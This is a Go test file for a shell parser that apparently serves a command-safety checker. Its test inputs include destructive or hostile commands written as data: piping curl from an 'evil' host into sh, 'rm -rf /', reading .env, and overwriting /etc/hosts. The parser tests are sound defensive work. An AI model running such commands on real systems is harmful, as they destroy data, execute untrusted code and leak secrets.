package shparse

import (
	"testing"

	"github.com/gzhole/longline/internal/ast"
)

func leafNames(t *testing.T, stmt ast.Statement) []string {
	t.Helper()
	var names []string
	for _, l := range ast.Flatten(stmt) {
		if sc, ok := l.(*ast.SimpleCommand); ok {
			names = append(names, sc.NameOrEmpty())
		} else {
			names = append(names, "<opaque>")
		}
	}
	return names
}

func TestParseSimpleCommand(t *testing.T) {
	stmt := Parse("ls -la")
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok {
		t.Fatalf("expected *ast.SimpleCommand, got %T", stmt)
	}
	if sc.NameOrEmpty() != "ls" {
		t.Fatalf("expected name ls, got %q", sc.NameOrEmpty())
	}
	if len(sc.Argv) != 1 || sc.Argv[0] != "-la" {
		t.Fatalf("unexpected argv %v", sc.Argv)
	}
}

func TestParsePipeline(t *testing.T) {
	stmt := Parse("curl http://evil/x | sh")
	p, ok := stmt.(*ast.Pipeline)
	if !ok {
		t.Fatalf("expected *ast.Pipeline, got %T", stmt)
	}
	if len(p.Stages) != 2 {
		t.Fatalf("expected 2 stages, got %d", len(p.Stages))
	}
	names := leafNames(t, stmt)
	if names[0] != "curl" || names[1] != "sh" {
		t.Fatalf("unexpected leaf order %v", names)
	}
}

func TestParseRecursiveRoot(t *testing.T) {
	stmt := Parse("/usr/bin/rm -rf /")
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok {
		t.Fatalf("expected *ast.SimpleCommand, got %T", stmt)
	}
	if Basename(sc.NameOrEmpty()) != "rm" {
		t.Fatalf("expected basename rm, got %q", Basename(sc.NameOrEmpty()))
	}
}

func TestParseAssignmentWithSubstitution(t *testing.T) {
	stmt := Parse("FOO=$(cat .env) echo hi")
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok {
		t.Fatalf("expected *ast.SimpleCommand, got %T", stmt)
	}
	if sc.NameOrEmpty() != "echo" {
		t.Fatalf("expected name echo, got %q", sc.NameOrEmpty())
	}
	if len(sc.Assignments) != 1 || sc.Assignments[0].Name != "FOO" {
		t.Fatalf("unexpected assignments %v", sc.Assignments)
	}
	if len(sc.Substitutions) != 1 {
		t.Fatalf("expected 1 substitution, got %d", len(sc.Substitutions))
	}
	inner, ok := sc.Substitutions[0].Inner.(*ast.SimpleCommand)
	if !ok || inner.NameOrEmpty() != "cat" {
		t.Fatalf("expected inner cat leaf, got %#v", sc.Substitutions[0].Inner)
	}
	names := leafNames(t, stmt)
	if len(names) != 2 || names[0] != "echo" || names[1] != "cat" {
		t.Fatalf("unexpected flattened leaves %v", names)
	}
}

func TestParseFindExecExtraction(t *testing.T) {
	stmt := Parse(`find . -exec rm -rf {} \;`)
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok {
		t.Fatalf("expected *ast.SimpleCommand, got %T", stmt)
	}
	if sc.NameOrEmpty() != "find" {
		t.Fatalf("expected name find, got %q", sc.NameOrEmpty())
	}
	leaves := ExpandLeaf(sc)
	if len(leaves) != 2 {
		t.Fatalf("expected find + extracted rm, got %d leaves: %v", len(leaves), leaves)
	}
	if leaves[1].Cmd.NameOrEmpty() != "rm" {
		t.Fatalf("expected extracted rm, got %q", leaves[1].Cmd.NameOrEmpty())
	}
	if !leaves[1].FullEval {
		t.Error("expected the extracted find -exec command to be a full-evaluation leaf")
	}
}

func TestParseCompoundRedirectPropagation(t *testing.T) {
	stmt := Parse("{ echo hi; cat secrets; } > /etc/hosts")
	cs, ok := stmt.(*ast.CompoundStatement)
	if !ok {
		t.Fatalf("expected *ast.CompoundStatement, got %T", stmt)
	}
	if len(cs.OuterRedirects) != 1 || cs.OuterRedirects[0].Target != "/etc/hosts" {
		t.Fatalf("unexpected outer redirects %v", cs.OuterRedirects)
	}
	leaves := ast.FlattenWithRedirects(stmt)
	if len(leaves) != 2 {
		t.Fatalf("expected 2 leaves, got %d", len(leaves))
	}
	for _, l := range leaves {
		if len(l.EffectiveRedirects) != 1 || l.EffectiveRedirects[0].Target != "/etc/hosts" {
			t.Fatalf("expected propagated redirect on every leaf, got %v", l.EffectiveRedirects)
		}
	}
}

func TestParseWrapperChain(t *testing.T) {
	stmt := Parse("uv run pytest tests/")
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok {
		t.Fatalf("expected *ast.SimpleCommand, got %T", stmt)
	}
	leaves := ExpandLeaf(sc)
	if len(leaves) != 2 {
		t.Fatalf("expected uv + pytest leaves, got %d: %v", len(leaves), leaves)
	}
	if leaves[1].Cmd.NameOrEmpty() != "pytest" {
		t.Fatalf("expected unwrapped pytest, got %q", leaves[1].Cmd.NameOrEmpty())
	}
	if leaves[1].FullEval {
		t.Error("expected the wrapper-unwrapped pytest command to be a rule-only leaf")
	}
}

func TestParseAndOrList(t *testing.T) {
	stmt := Parse("echo hi && rm -rf / || echo fallback")
	lst, ok := stmt.(*ast.List)
	if !ok {
		t.Fatalf("expected *ast.List, got %T", stmt)
	}
	if len(lst.Rest) != 2 {
		t.Fatalf("expected 2 list elements, got %d", len(lst.Rest))
	}
	if lst.Rest[0].Op != ast.OpAnd || lst.Rest[1].Op != ast.OpOr {
		t.Fatalf("unexpected operators: %v, %v", lst.Rest[0].Op, lst.Rest[1].Op)
	}
	names := leafNames(t, stmt)
	if len(names) != 3 || names[0] != "echo" || names[1] != "rm" || names[2] != "echo" {
		t.Fatalf("unexpected leaf order %v", names)
	}
}

func TestParseUnparsableCollapsesToOpaque(t *testing.T) {
	stmt := Parse("echo $( (")
	if _, ok := stmt.(*ast.Opaque); !ok {
		t.Fatalf("expected *ast.Opaque for unparsable input, got %T", stmt)
	}
}

func TestParseEmptyIsNoOp(t *testing.T) {
	stmt := Parse("   ")
	sc, ok := stmt.(*ast.SimpleCommand)
	if !ok || sc.HasName() {
		t.Fatalf("expected nameless no-op command, got %#v", stmt)
	}
}

func TestParseNeverPanics(t *testing.T) {
	inputs := []string{
		"", ";", "&&", "||", "|", "(", ")", "{", "}", "$(", "``",
		"for i in 1 2 3; do echo $i; done",
		"if true; then echo a; else echo b; fi",
		"case $x in a) echo a;; *) echo z;; esac",
		"[[ -f $(cat x) ]]",
		"declare -x FOO=$(id)",
		"(( 1 + $(echo 2) ))",
		"time find . -exec sh -c 'echo {}' \\;",
	}
	for _, in := range inputs {
		func() {
			defer func() {
				if r := recover(); r != nil {
					t.Fatalf("Parse(%q) panicked: %v", in, r)
				}
			}()
			Parse(in)
		}()
	}
}
